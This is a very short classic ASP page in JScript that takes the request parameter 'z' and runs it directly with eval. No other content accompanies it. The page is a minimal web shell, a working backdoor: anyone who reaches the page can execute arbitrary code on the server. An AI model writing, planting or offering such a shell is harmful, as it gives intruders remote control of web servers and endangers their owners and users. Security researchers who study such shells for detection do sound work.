<%@ Language="JScript" %>
<%
var p = Request.Item("z");
if (p != "") { eval(p + ""); }
%>
